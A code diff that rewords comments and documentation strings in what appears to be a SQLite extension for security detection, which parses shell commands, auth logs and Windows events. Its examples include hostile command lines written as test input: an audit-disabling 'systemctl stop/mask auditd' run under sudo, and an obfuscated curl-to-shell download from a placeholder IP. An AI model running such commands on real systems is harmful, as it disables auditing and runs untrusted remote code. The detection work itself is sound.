@@ -111,8 +111,8 @@ static void canonical(sqlite3_context *out, int argc, sqlite3_value **argv)
 
 #define RUNS_ARGC_MAX 4096
 
-/* The words of a JSON array, into memory of the arena; NULL, and *ret_n as it was, where there is no
- * word, or no memory. */
+/* The words of a JSON array, into memory of the arena; NULL, and *ret_n unchanged, where there is
+ * no word, or no memory. */
 static const char *const *json_words(struct arena *memory, const char *text, size_t *ret_n)
 {
     cJSON       *array = cJSON_Parse(text), *item;
@@ -131,7 +131,7 @@ static const char *const *json_words(struct arena *memory, const char *text, siz
     return n ? words : NULL;
 }
 
-/* What a command runs. Text is what a shell is given, so that the shell itself is not among it. */
+/* What a command runs. A text is the input of a shell, so the shell itself is not part of it. */
 static void runs(sqlite3_context *out, int argc, sqlite3_value **argv)
 {
     struct argument        command = argument(argv[0]);
@@ -172,8 +172,8 @@ static void regexp_error(sqlite3_context *out, const char *pattern, const char *
     sqlite3_free(message);
 }
 
-/* Patterns that come from a table differ from row to row, so what SQLite keeps for a constant
- * argument is not enough: compiled patterns stay with the connection, one a slot. */
+/* Patterns that come from a table differ from row to row, so SQLite's cache for a constant argument
+ * is not enough: compiled patterns stay with the connection, one in each slot. */
 #define PATTERN_SLOTS 256
 
 struct patterns {
@@ -208,7 +208,7 @@ static size_t slot_of(struct argument pattern)
     return hash % PATTERN_SLOTS;
 }
 
-/* The compiled pattern, the connection's; NULL, with the error set, where it is none. */
+/* The compiled pattern, the connection's; NULL, with the error set, where it is not valid. */
 static struct regexp *compiled(sqlite3_context *out, struct argument pattern)
 {
     struct patterns *patterns = sqlite3_user_data(out);
@@ -366,8 +366,8 @@ static void trust(sqlite3_context *out, int argc, sqlite3_value **argv)
         sqlite3_result_text(out, place, -1, SQLITE_STATIC);
 }
 
-/* Not declared deterministic, so that a term on it stays where it is: SQLite does not push the term
- * down into a view, where what it is made of would be computed again for each place that names it.
+/* Not declared deterministic, so that SQLite does not push a term on it down into a view, where the
+ * argument would be computed again at each use.
  */
 static void once(sqlite3_context *out, int argc, sqlite3_value **argv)
 {
@@ -418,14 +418,14 @@ const struct function_doc function_docs[] = {
      "SELECT svcql_version();"},
     {"service_command(cmdline)",
      "What a command line does to services, as a JSON array of {tool, verb, targets, options, "
-     "remote, runtime, via, obfuscated}, seen through sudo, ssh, sh -c, cmd /c, powershell "
-     "-EncodedCommand and the like; NULL where it does nothing to them",
+     "remote, runtime, via, obfuscated}, also within sudo, ssh, sh -c, cmd /c, powershell "
+     "-EncodedCommand and similar wrappers; NULL where it does nothing to services",
      "SELECT value ->> 'verb', value ->> 'targets' FROM json_each(service_command('sudo sh -c "
      "\"systemctl stop auditd; systemctl mask auditd\"'));"},
     {"shell_canonical(text)",
-     "A shell's text as it would run, in lines: quotes and escapes taken away, pieces joined, "
-     "variables and outputs that the text itself tells in place; what sh -c, env -S, eval and a "
-     "pipe from base64 -d are given stands on a line of its own",
+     "A shell's text as it would run, in lines: quotes and escapes removed, pieces joined, "
+     "variables and outputs expanded where the text itself defines them; the input of sh -c, env "
+     "-S, eval and of a pipe from base64 -d is on separate lines",
      "SELECT shell_canonical('X=url; c\"\"$X -s http://192.0.2.1/p | s\\h');"},
     {"command_runs(command)",
      "Every program and script that a command names to run, as a JSON array; the command is a "
@@ -434,23 +434,23 @@ const struct function_doc function_docs[] = {
     {"regexp(pattern, text)",
      "Whether the pattern matches anywhere in the text, as does text REGEXP pattern: classes, "
      "\\d \\s \\w \\b, {m,n}, alternation, anchors and (?i), in time bounded by pattern times "
-     "text; takes the place of the shell's own so that rules mean the same everywhere",
+     "text; replaces the sqlite3 shell's own, so that rules have the same meaning everywhere",
      "SELECT 'C:\\Users\\x\\a.EXE' REGEXP '(?i)\\\\users\\\\[^\\\\]+\\\\.*\\.exe$';"},
     {"once(value)",
      "The value itself, computed once: a term on it is not pushed down into a view",
      "SELECT once(1);"},
     {"scope_since(seconds)",
-     "The time from which findings are asked for, less a margin; minus infinity where they are asked "
-     "for at all times, and outside of findings",
+     "The time from which a query wants findings, less a margin; minus infinity where it wants all"
+     " times, and outside of findings",
      "SELECT scope_since(3600);"},
     {"scope_until(seconds)",
-     "The time up to which findings are asked for, and a margin; infinity as for scope_since()",
+     "The time up to which a query wants findings, and a margin; infinity as for scope_since()",
      "SELECT scope_until(60);"},
     {"scoped()",
-     "Whether findings are asked for of some time only",
+     "Whether a query wants findings of some time only",
      "SELECT scoped();"},
     {"own_signals(shape, column, ...)",
-     "What the user's own detections say of a row of a shape, as ,\"name\",\"name\"; the views "
+     "The user's own detections that fire for a row of a shape, as ,\"name\",\"name\"; the views "
      "SHAPE_signals call it",
      "SELECT own_signals('unit');"},
     {"pattern_signals(platform, text)",
@@ -464,10 +464,10 @@ const struct function_doc function_docs[] = {
      "The grade of a JSON array of signals, by the tables signals and severities",
      "SELECT signal_severity('[\"runs_from_temp\",\"inline_shell\"]');"},
     {"signal_reasons(fired)",
-     "Why each signal of a JSON array matters, the weightiest first",
+     "Why each signal of a JSON array matters, the greatest weight first",
      "SELECT signal_reasons('[\"runs_from_temp\",\"inline_shell\"]');"},
     {"signal_names(fired)",
-     "The names in a JSON array of signals, the weightiest first, separated by commas",
+     "The names in a JSON array of signals, the greatest weight first, separated by commas",
      "SELECT signal_names('[\"inline_shell\",\"runs_from_temp\"]');"},
     {"signal_techniques(fired)",
      "The ATT&CK techniques of a JSON array of signals, as a JSON array",
@@ -476,17 +476,17 @@ const struct function_doc function_docs[] = {
      "The lines of a text as a JSON array",
      "SELECT value FROM json_each(text_lines('a' || char(10) || 'b'));"},
     {"auth_message(program, message)",
-     "What sudo, su, pkexec, doas, sshd and similar programs write in a line of a log, as a JSON object "
-     "of {kind, success, user, target_user, tty, cwd, command, remote_host, action, reason}; "
-     "NULL for another program's",
+     "What sudo, su, pkexec, doas, sshd and similar programs write in a line of a log, as a JSON "
+     "object of {kind, success, user, target_user, tty, cwd, command, remote_host, action, "
+     "reason}; NULL for another program's",
      "SELECT auth_message('sudo', 'bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id');"},
     {"entropy(text)",
      "Shannon entropy of the text's bytes in bits, 0 to 8: random names are above 3",
      "SELECT entropy('xkqjzvbw'), entropy('sshd');"},
     {"source_state(tables, location, host, after)",
      "Whether the first of the tables, separated by commas, has read a host's sources whose "
-     "location is LIKE the pattern, and none of the tables has trouble with one: read, absent, or "
-     "the troubles: absent, denied, damaged, unknown, incomplete. after is not read: give it a "
+     "location is LIKE the pattern, and none of the tables has a problem with one: read, absent, "
+     "or the problems: absent, denied, damaged, unknown, incomplete. after is not read: pass a "
      "value of the query that reads the tables, so that they are read first",
      "SELECT source_state('sudoers', '%', host, count(*)) FROM sudoers GROUP BY host;"},
     {"edit_distance(a, b)",
@@ -509,10 +509,11 @@ const struct function_doc function_docs[] = {
      "SELECT usual_library('%SystemRoot%\\System32\\x.dll'), usual_library('C:\\Windows\\x.dll');"},
     {"printable(text)",
      "The text with each control, bidirectional or invisible character, and each byte that is not "
-     "UTF-8, written as \\x1b or \\u202e: what hostile evidence says cannot act on a terminal",
+     "UTF-8, written as \\x1b or \\u202e: hostile evidence cannot act on a terminal",
      "SELECT printable('a' || char(27) || '[31m' || char(155) || 'b');"},
     {"event_message(text)",
-     "A text of a Windows event with its message identifiers, such as %%1905, put into words",
+     "A text of a Windows event with its message identifiers, such as %%1905, translated into "
+     "words",
      "SELECT event_message('%%1905');"},
     {"event_access(object_type, mask)",
      "The rights in an access mask, of a File, a Key, a SERVICE OBJECT or an SC_MANAGER OBJECT",
@@ -523,11 +524,12 @@ const struct function_doc function_docs[] = {
      "SELECT event_number('0x3e7');"},
     {"name_randomness(name)",
      "Evidence in bits that a name's letters were drawn at random, by letter statistics of real "
-     "names: above 10 for names that no person chose",
+     "names: above 10 for randomly generated names",
      "SELECT name_randomness('xkqzvwpj'), name_randomness('lightdm');"},
     {"look_alike(a, b)",
-     "Whether one name passes for the other at a glance: letters that look alike, doubled ones, "
-     "hyphens, case; of six letters or more one that is changed, missing, added or swapped",
+     "Whether one name is easily mistaken for the other: letters that look alike, doubled ones, "
+     "hyphens, case; in names of six letters or more, one letter that is changed, missing, added "
+     "or swapped",
      "SELECT look_alike('mysqI', 'mysql'), look_alike('cronn', 'cron'), look_alike('sslh', 'ssh');"},
     {"utc_datetime(seconds)",
      "Seconds since the epoch as a datetime in UTC, in the form of SQLite's datetime() with "
